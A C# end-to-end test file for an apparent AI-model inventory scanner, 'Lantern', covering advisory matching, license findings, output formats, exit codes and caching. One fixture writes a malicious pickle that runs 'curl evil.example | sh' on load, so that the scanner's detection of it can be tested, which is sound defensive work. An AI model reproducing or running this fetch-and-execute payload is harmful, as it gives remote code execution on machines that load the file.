using System.Text.Json;
using System.Text.Json.Nodes;
using Lantern.Core.Model;
using Lantern.Core.Reporting;
using Lantern.Testing;
using Lantern.Testing.Endpoints;
using Lantern.Testing.Fixtures;

namespace Lantern.EndToEnd.Tests.Scan;

/// <summary>Fixture endpoint → real CLI process → JSON report compared with a golden file.</summary>
public class ScanEndToEndTests
{
    private const string Revision = "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00";

    [Fact]
    public void Scan_FixtureEndpoint_MatchesGoldenReport()
    {
        using var endpoint = BuildEndpoint();

        var (exit, stdout, stderr) = LanternProcess.Run(endpoint, "scan", "--format", "json", "--no-probe", "--fail-on", "critical");

        Assert.True(exit is 0 or 1 or 3, $"exit {exit}: {stderr}");
        Assert.Equal(string.Empty, stderr);
        string normalised = Normalise(stdout, endpoint);
        Golden.AssertMatches("scan-endpoint.json", normalised);
    }

    [Fact]
    public void Scan_VulnerableOllamaAndNonCommercialModel_ExitsOneWithFindings()
    {
        using var endpoint = BuildEndpoint();

        var (exit, stdout, _) = LanternProcess.Run(endpoint, "scan", "--format", "json", "--no-probe", "--fail-on", "high");

        Assert.Equal(ExitCodes.Findings, exit);
        using var stream = new MemoryStream(System.Text.Encoding.UTF8.GetBytes(stdout));
        Inventory inventory = InventoryJson.Read(stream);
        Assert.Contains(inventory.Findings, f => f.RuleId == "LNT-SCN-001" && f.Evidence.Values.Any(v => v.Contains("CVE-2024-37032", StringComparison.Ordinal)));
        Assert.Contains(inventory.Findings, f => f.RuleId == "LNT-SCN-005");
        Assert.Contains(inventory.Findings, f => f.Controls.Contains("ISO27001:A.8.8"));
        Assert.Equal("malicious", Assert.Single(inventory.Artifacts, a => a.Path.EndsWith("classifier.pkl", StringComparison.Ordinal)).Verdict);
        Assert.Contains(inventory.Findings, f => f.RuleId.StartsWith("LNT-PKL-", StringComparison.Ordinal) && f.Evidence["path"].EndsWith("classifier.pkl", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Scan_RealProcessJson_ValidatesAgainstPublishedSchema()
    {
        using var endpoint = BuildEndpoint();
        var (_, stdout, _) = LanternProcess.Run(endpoint, "scan", "--format", "json", "--no-probe");
        var schema = await NJsonSchema.JsonSchema.FromFileAsync(Path.Combine(TestPaths.RepoRoot, "docs", "schema", "inventory.schema.json"));

        var errors = schema.Validate(stdout);

        Assert.True(errors.Count == 0, string.Join("\n", errors.Select(e => $"{e.Path}: {e.Kind}")));
    }

    [Fact]
    public void AdvisoriesImport_ZipOfOsvDocuments_ScanReportsImportedAdvisory()
    {
        using var endpoint = new FixtureEndpoint();
        endpoint.FakeExecutable("ollama", "ollama version is 0.40.1");
        string osv = """
            {"schema_version":"1.6.0","id":"GO-2099-0001","modified":"2099-01-01T00:00:00Z","aliases":["CVE-2099-0001"],
             "summary":"Imported offline advisory","details":"Test advisory imported from a zip.",
             "affected":[{"package":{"ecosystem":"Go","name":"github.com/ollama/ollama"},
               "ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"0.41.0"}]}]}],
             "database_specific":{"severity":"HIGH"}}
            """;
        string zip = Path.Combine(endpoint.Root, "osv-all.zip");
        using (var archive = System.IO.Compression.ZipFile.Open(zip, System.IO.Compression.ZipArchiveMode.Create))
        {
            using var writer = new StreamWriter(archive.CreateEntry("GO-2099-0001.json").Open());
            writer.Write(osv);
        }

        var (importExit, importOut, importErr) = LanternProcess.Run(endpoint, "advisories", "import", zip);
        var (_, stdout, _) = LanternProcess.Run(endpoint, "scan", "--format", "json", "--no-probe");

        Assert.True(importExit == ExitCodes.Ok, importOut + importErr);
        Assert.Contains("Imported 1", importOut, StringComparison.Ordinal);
        using var stream = new MemoryStream(System.Text.Encoding.UTF8.GetBytes(stdout));
        RuntimeInstall ollama = Assert.Single(InventoryJson.Read(stream).Runtimes, r => r.Id == "ollama");
        Assert.Contains(ollama.Advisories, a => a.Id == "GO-2099-0001" && a.Aliases.Contains("CVE-2099-0001"));
    }

    [Fact]
    public void Scan_UnreadableDirectory_ProblemAndExitThree()
    {
        using var endpoint = new FixtureEndpoint();
        endpoint.WriteFile(endpoint.HomePath("Downloads/m.gguf"), new GgufWriter().AddString("general.architecture", "llama").Build());
        string locked = endpoint.HomePath("private");
        endpoint.WriteFile(Path.Combine(locked, "hidden.gguf"), new GgufWriter().AddString("general.architecture", "llama").Build());
        if (Environment.UserName == "root")
        {
            // The CLI will run as nobody: give it the fixture, then take the one directory away.
            using var chown = System.Diagnostics.Process.Start("chown", ["-R", "65534:65534", endpoint.Root])!;
            chown.WaitForExit();
        }
        File.SetUnixFileMode(locked, UnixFileMode.None);
        try
        {
            var (exit, stdout, stderr) = LanternProcess.RunAs(endpoint, unprivileged: true, "scan", "--format", "json", "--no-probe");

            Assert.True(exit == ExitCodes.Incomplete, $"exit {exit}: {stderr}");
            using var stream = new MemoryStream(System.Text.Encoding.UTF8.GetBytes(stdout));
            Inventory inventory = InventoryJson.Read(stream);
            Assert.False(inventory.Complete);
            Assert.Contains(inventory.Problems, p => p.Code == ProblemCodes.Unreadable && p.Subject == locked);
            Assert.Single(inventory.Artifacts, a => a.Path.EndsWith("m.gguf", StringComparison.Ordinal));
        }
        finally
        {
            File.SetUnixFileMode(locked, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        }
    }

    [Fact]
    public void Scan_BadTimeBudget_ExitsTwo()
    {
        using var endpoint = new FixtureEndpoint();

        var (exit, _, stderr) = LanternProcess.Run(endpoint, "scan", "--time-budget", "soon");

        Assert.Equal(ExitCodes.Usage, exit);
        Assert.Contains("--time-budget", stderr, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("table")]
    [InlineData("json")]
    [InlineData("cyclonedx")]
    public void Scan_EachFormat_Accepted(string format)
    {
        using var endpoint = new FixtureEndpoint();
        endpoint.WriteFile(endpoint.HomePath("m.gguf"), new GgufWriter().AddString("general.architecture", "llama").Build());

        var (exit, stdout, stderr) = LanternProcess.Run(endpoint, "scan", "--format", format, "--no-probe");

        Assert.True(exit is 0 or 3, $"exit {exit}: {stderr}");
        Assert.NotEmpty(stdout);
    }

    [Fact]
    public void Scan_UnknownFormat_ExitsTwo()
    {
        using var endpoint = new FixtureEndpoint();

        var (exit, _, _) = LanternProcess.Run(endpoint, "scan", "--format", "xml");

        Assert.Equal(ExitCodes.Usage, exit);
    }

    [Fact]
    public void Scan_CycloneDxToFile_WritesBomAndNothingOnStdout()
    {
        using var endpoint = BuildEndpoint();
        string output = Path.Combine(endpoint.Root, "out", "bom.json");

        var (exit, stdout, _) = LanternProcess.Run(endpoint, "scan", "--format", "cyclonedx", "--output", output, "--no-probe", "--fail-on", "critical");

        // The fixture holds critical advisories (Ollama 0.1.33), so --fail-on critical makes it 1.
        Assert.Equal(ExitCodes.Findings, exit);
        Assert.Equal(string.Empty, stdout);
        JsonNode bom = JsonNode.Parse(File.ReadAllText(output))!;
        Assert.Equal("1.6", bom["specVersion"]!.GetValue<string>());
        Assert.Contains(bom["components"]!.AsArray(), c => c!["type"]!.GetValue<string>() == "machine-learning-model");
    }

    [Fact]
    public void Scan_SecondRun_UsesDigestCache()
    {
        using var endpoint = new FixtureEndpoint();
        endpoint.WriteFile(endpoint.HomePath("Downloads/model.gguf"), new GgufWriter().AddString("general.architecture", "llama").Build());

        LanternProcess.Run(endpoint, "scan", "--format", "json", "--no-probe");
        var (_, stdout, _) = LanternProcess.Run(endpoint, "scan", "--format", "json", "--no-probe");

        using var doc = JsonDocument.Parse(stdout);
        Assert.Equal(1, doc.RootElement.GetProperty("stats").GetProperty("digestCacheHits").GetInt32());
    }

    /// <summary>A laptop with Ollama (old, vulnerable), an HF cache, LM Studio, a stray GGUF and a vLLM venv.</summary>
    internal static FixtureEndpoint BuildEndpoint()
    {
        var endpoint = new FixtureEndpoint();
        endpoint.FakeExecutable("ollama", "Warning: could not connect to a running Ollama instance\nWarning: client version is 0.1.33");
        endpoint.FakeExecutable("llama-server", "version: 5661 (1f6e0b62)\nbuilt with cc for x86_64-linux-gnu", toStderr: true);
        string store = endpoint.HomePath(".ollama/models");
        endpoint.OllamaModel(store, "llama3.2", "1b", Gguf("Llama 3.2 1B Instruct", "llama3.2", "llama"), "LLAMA 3.2 COMMUNITY LICENSE AGREEMENT\nLlama 3.2 Version Release Date: September 25, 2024\n");
        endpoint.OllamaModel(store, "gpt-oss", "120b-cloud", [], remoteHost: "https://ollama.com:443");
        endpoint.HuggingFaceRepo(endpoint.HomePath(".cache/huggingface/hub"), "mistralai/Mistral-7B-v0.1", Revision,
            new Dictionary<string, byte[]>
            {
                ["model.safetensors"] = new SafetensorsWriter().AddTensor("lm_head.weight", "BF16", [4, 4]).AddMetadata("format", "pt").Build(),
                ["config.json"] = "{\"architectures\":[\"MistralForCausalLM\"]}"u8.ToArray(),
            },
            readmeLicense: "cc-by-nc-4.0");
        endpoint.WriteFile(endpoint.HomePath(".lmstudio/models/lmstudio-community/Qwen3-8B-GGUF/Qwen3-8B-Q4_K_M.gguf"), Gguf("Qwen3 8B", "apache-2.0", "qwen3"));
        endpoint.WriteFile(endpoint.HomePath("Downloads/totally-not-a-model.dat"), Gguf("Phi 4", "mit", "phi3"));
        endpoint.DistInfo("vllm", "0.8.4");
        // A "classifier" that runs os.system on load: the scan's vetting must call it malicious.
        endpoint.WriteFile(endpoint.HomePath("Downloads/classifier.pkl"), [0x80, 0x02, .. "cos\nsystem\n(S'curl evil.example | sh'\ntR."u8]);
        return endpoint;
    }

    private static byte[] Gguf(string name, string license, string arch) =>
        new GgufWriter()
            .AddString("general.architecture", arch)
            .AddString("general.name", name)
            .AddString("general.license", license)
            .AddUInt32("general.file_type", 15)
            .AddUInt32($"{arch}.context_length", 8192)
            .AddString("tokenizer.chat_template", "{% for m in messages %}{{ m['content'] }}{% endfor %}")
            .Build();

    /// <summary>Keeps what the fixture decides; drops what the machine or the clock decides.</summary>
    private static string Normalise(string json, FixtureEndpoint endpoint)
    {
        JsonNode root = JsonNode.Parse(json.Replace(endpoint.Root, "<root>", StringComparison.Ordinal))!;
        var kept = new JsonObject
        {
            ["schemaVersion"] = root["schemaVersion"]!.DeepClone(),
            ["runtimes"] = root["runtimes"]!.DeepClone(),
            ["artifacts"] = root["artifacts"]!.DeepClone(),
            ["findings"] = root["findings"]!.DeepClone(),
            ["problems"] = root["problems"]?.DeepClone() ?? new JsonArray(),
        };
        return kept.ToJsonString(new JsonSerializerOptions { WriteIndented = true, Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }) + "\n";
    }
}
